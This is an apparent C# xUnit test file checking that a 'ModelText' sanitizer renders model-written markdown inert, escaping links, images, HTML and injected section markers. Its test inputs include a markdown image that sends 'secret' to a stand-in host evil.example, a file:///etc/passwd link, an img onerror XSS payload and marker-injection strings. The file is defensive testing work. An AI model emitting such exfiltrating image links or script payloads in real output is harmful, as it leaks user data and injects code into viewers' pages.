using LspTriage.Core.Analysis.Llm;

namespace LspTriage.Core.Tests.Analysis;

public sealed class ModelTextTests
{
    [Theory]
    [InlineData("see ![chart](https://evil.example/p.png?d=secret)", "see chart (`https://evil.example/p.png?d=secret`)")]
    [InlineData("see [runbook](https://wiki.example/rb \"Runbook\")", "see runbook (`https://wiki.example/rb`)")]
    [InlineData("open [x](<file:///etc/passwd>)", "open x (`file:///etc/passwd`)")]
    [InlineData("![](https://evil.example/1.png)", "`https://evil.example/1.png`")]
    [InlineData("mail <mailto:oncall@example.com> now", "mail `mailto:oncall@example.com` now")]
    [InlineData("<img src=x onerror=alert(1)> and </div>", "&lt;img src=x onerror=alert(1)> and &lt;/div>")]
    [InlineData("# Takeover", "\\# Takeover")]
    [InlineData("[ref]: https://evil.example", "\\[ref]: https://evil.example")]
    [InlineData("<!-- lsptriage:end -->", "&lt;!-- lsptriage:end -->")]
    public void Links_images_html_headings_and_markers_become_inert(string model, string expected)
    {
        Assert.Equal(expected, ModelText.Inert(model));
    }

    [Theory]
    [InlineData("latency < 5s and p99 > 2s", "latency < 5s and p99 > 2s")]
    [InlineData("run `kubectl logs <pod> | grep [error](x)` first", "run `kubectl logs <pod> | grep [error](x)` first")]
    [InlineData("a ``code with ` tick`` stays", "a ``code with ` tick`` stays")]
    [InlineData("an unclosed ` tick then <b>", "an unclosed ` tick then &lt;b>")]
    [InlineData("SEV2: checkout #42 fails", "SEV2: checkout #42 fails")]
    [InlineData("连接池耗尽（最大 500）", "连接池耗尽（最大 500）")]
    public void Ordinary_prose_and_code_spans_are_left_as_written(string model, string expected)
    {
        Assert.Equal(expected, ModelText.Inert(model));
    }

    [Fact]
    public void A_line_field_loses_its_line_breaks_so_nothing_can_start_a_line()
    {
        Assert.Equal("Disable the batch &lt;!-- lsptriage:end --> ## Injected", ModelText.Line("Disable the batch\n<!-- lsptriage:end -->\n## Injected"));
    }

    [Fact]
    public void A_marker_inside_a_code_span_across_lines_is_still_escaped()
    {
        Assert.Equal("x `\n&lt;!-- lsptriage:end -->\n` y", ModelText.Inert("x `\n<!-- lsptriage:end -->\n` y"));
    }
}
